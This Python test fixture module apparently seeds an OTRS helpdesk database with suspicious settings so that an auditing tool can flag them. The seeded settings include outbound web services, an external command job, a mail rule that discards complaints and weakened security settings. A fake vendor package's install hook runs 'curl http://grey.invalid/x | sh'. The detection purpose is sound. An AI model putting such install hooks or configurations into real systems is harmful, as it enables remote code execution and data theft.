"""Manipulations of what goes out and what was installed."""

from __future__ import annotations

import base64

from klardesk.otrs.source.model import Value
from tests.otrs.databases.manipulations import AUDIT, add, manipulation
from tests.otrs.databases.memory import Memory

SERVICE = """---
Provider:
  Transport: {Type: ''}
Requester:
  Invoker:
    Copy: {Type: 'Ticket::Generic', Events: [{Event: ArticleCreate}]}
  Transport:
    Type: HTTP::REST
    Config: {Host: '%s', SSL: {SSLVerifyHostname: 'No'}, Authentication: {BasicAuthUser: u, BasicAuthPassword: p}}
"""
PACKAGE = """<?xml version="1.0" encoding="utf-8" ?>
<otrs_package version="1.0">
  <Name>VendorTools</Name><Version>1.0.0</Version><Vendor>Grey GmbH</Vendor><URL>https://grey.invalid/</URL><License>none</License>
  <Filelist><File Location="Kernel/System/Ticket.pm" Permission="644" Encode="Base64">MTs=</File></Filelist>
  <DatabaseInstall><TableCreate Name="vendor_tools"><Column Name="id" Type="INTEGER"/></TableCreate></DatabaseInstall>
  <CodeInstall>system("curl http://grey.invalid/x | sh");</CodeInstall>
</otrs_package>
"""


def text(m: Memory, value: str) -> Value:
    """A blob's value on this engine."""
    return value if m.engine == "postgresql" else value.encode()


def service(m: Memory, host: str) -> None:
    """Add a web service."""
    m.insert("gi_webservice_config", None, id=9, name="Sync", config=text(m, SERVICE % host), valid_id=1, **AUDIT)


for code in ("", ".plain", ".unchecked", ".secret"):
    add(
        "outgoing",
        f"web service{code}",
        lambda m: service(m, "http://10.9.9.9/api"),
        f"outgoing.web-service{code}",
        row="Sync",
    )


@manipulation("outgoing", "outgoing.web-service.unread", row="Sync")
def a_web_service_that_is_no_yaml(m: Memory) -> None:
    m.insert("gi_webservice_config", None, id=9, name="Sync", config=text(m, "a: [b"), valid_id=1, **AUDIT)


@manipulation("outgoing", "outgoing.notification", table="notification_event_item", row="Ticket create notification")
def a_notification_to_a_stranger(m: Memory) -> None:
    m.insert(
        "notification_event_item", None, notification_id=1, event_key="RecipientEmail", event_value="copy@grey.invalid"
    )


def job(m: Memory, key: str, value: str) -> None:
    """Add a job."""
    for each, content in (("Valid", "1"), ("ScheduleDays", "1"), (key, value)):
        m.insert("generic_agent_jobs", None, job_name="Nightly", job_key=each, job_value=content)


for key, value, code in (
    ("NewCMD", "/tmp/send.sh --all", "outgoing.job"), ("NewModule", "Kernel::System::GenericAgent::Vendor", "outgoing.job"),
    ("NewDelete", "1", "outgoing.job.deletes"),
):  # fmt: skip
    add(
        "outgoing",
        f"job {key}",
        lambda m, k=key, v=value: job(m, k, v),
        code,
        table="generic_agent_jobs",
        row="Nightly",
    )


def mailbox(m: Memory, kind: str, trusted: int) -> None:
    """Add a mailbox."""
    values = {
        "id": 1,
        "login": "support",
        "pw": "x",
        "host": "mail.grey.invalid",
        "account_type": kind,
        "valid_id": 1,
        "trusted": trusted,
    }
    m.insert("mail_account", None, queue_id=1, **values, **AUDIT)  # type: ignore[arg-type]


add("outgoing", "mailbox without TLS", lambda m: mailbox(m, "POP3", 0), "outgoing.mailbox.plain", row="support")
add("outgoing", "trusted mailbox", lambda m: mailbox(m, "IMAPS", 1), "outgoing.mailbox.trusted", row="support")


@manipulation("outgoing", "outgoing.mail-rule", row="99 quiet")
def complaints_are_thrown_away(m: Memory) -> None:
    for kind, key, value in (("Match", "Subject", "(?i)complaint"), ("Set", "X-OTRS-Ignore", "yes")):
        m.insert("postmaster_filter", None, f_name="99 quiet", f_stop=1, f_type=kind, f_key=key, f_value=value, f_not=0)


@manipulation("outgoing", "outgoing.task")
def a_task_of_the_daemon(m: Memory) -> None:
    setting(
        m,
        "Daemon::SchedulerCronTaskManager::Task###TicketEscalationCheck",
        "---\nModule: Vendor::Copy\nFunction: Run\n",
    )


def setting(m: Memory, name: str, value: str) -> None:
    """Save a setting."""
    values = {
        "id": 900,
        "sysconfig_default_id": 1,
        "name": name,
        "is_valid": 1,
        "reset_to_default": 0,
        "is_dirty": 0,
    }
    m.insert("sysconfig_modified", None, effective_value=text(m, value), **values, **AUDIT)


for name, value, tone in (
    ("SecureMode", "--- '0'\n", "default"), ("AdminSelectBox::AllowDatabaseModification", "--- '1'\n", "changed"),
    ("SessionUseCookie", "--- '0'\n", "changed"),
):  # fmt: skip

    def _saved(m: Memory, n: str = name, v: str = value) -> None:
        if any(each == n for each in m.columns["sysconfig_modified"]["name"]):
            m.set("sysconfig_modified", {"name": n}, effective_value=text(m, v))
        else:
            setting(m, n, v)

    add("settings", name, _saved, f"settings.{tone}.{name}", table="sysconfig_modified", setting=name)


def package(m: Memory, content: str, status: str = "installed") -> None:
    """Say that a package is installed."""
    held: Value = content.encode()
    if m.engine == "postgresql":
        held = base64.encodebytes(content.encode()).decode()
    values = {
        "id": 1,
        "name": "VendorTools",
        "version": "1.0.0",
        "vendor": "Grey GmbH",
        "install_status": status,
        "filename": "x.opm",
    }
    m.insert("package_repository", None, content=held, **values, **AUDIT)  # type: ignore[arg-type]


for code in ("vendor", "replaces", "database", "code"):
    add("packages", code, lambda m: package(m, PACKAGE), f"packages.{code}", package="VendorTools")
add("packages", "unreadable", lambda m: package(m, "gone"), "packages.unreadable", package="VendorTools")
add("packages", "half installed", lambda m: package(m, PACKAGE, "reinstall"), "packages.status", package="VendorTools")
